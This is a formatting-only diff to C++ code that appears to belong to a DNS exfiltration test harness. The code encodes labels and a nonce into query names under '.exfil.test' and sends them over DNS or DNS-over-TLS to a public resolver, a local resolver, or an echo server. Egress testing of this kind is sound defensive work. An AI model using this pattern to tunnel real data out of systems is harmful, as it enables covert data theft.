@@ -8,8 +8,8 @@
 namespace bottle {
 namespace {
 
-const std::map<std::string, int> kTypes = {{"A", 1}, {"NS", 2}, {"CNAME", 5}, {"NULL", 10}, {"MX", 15}, {"TXT", 16},
-                                           {"AAAA", 28}, {"SRV", 33}, {"HTTPS", 65}, {"ANY", 255}};
+const std::map<std::string, int> kTypes = {{"A", 1},    {"NS", 2},    {"CNAME", 5}, {"NULL", 10},  {"MX", 15},
+                                           {"TXT", 16}, {"AAAA", 28}, {"SRV", 33},  {"HTTPS", 65}, {"ANY", 255}};
 
 std::string as_u16(int value) { return {static_cast<char>(value >> 8), static_cast<char>(value & 0xff)}; }
 
@@ -36,14 +36,15 @@ Attempt build(const Choice& choice, const Brief& brief) {
   const std::string name = labels + brief.nonce + ".exfil.test";
   const std::string message = query(name, kTypes.at(chosen(choice, "qtype", "A")), brief.nonce);
 
-  std::string server = chosen(choice, "server", "public") == "public" ? brief.route.public_resolver : brief.route.resolver;
+  std::string server =
+      chosen(choice, "server", "public") == "public" ? brief.route.public_resolver : brief.route.resolver;
   int port = transport == "dot" ? 853 : 53;
   if (is_control(brief.arm)) {
     server = brief.route.echo.address;
     port = brief.route.echo.port;
   }
-  attempt.action = {{"action", "dns"}, {"transport", transport}, {"server", server}, {"port", port},
-                    {"message", to_base64(message)}, {"read_ms", 300}};
+  attempt.action = {{"action", "dns"}, {"transport", transport},        {"server", server},
+                    {"port", port},    {"message", to_base64(message)}, {"read_ms", 300}};
   attempt.sent = {segment("query", message)};
   attempt.channel = "dns over " + transport + " to the echo, prober";
   attempt.delivered_at = "echo";
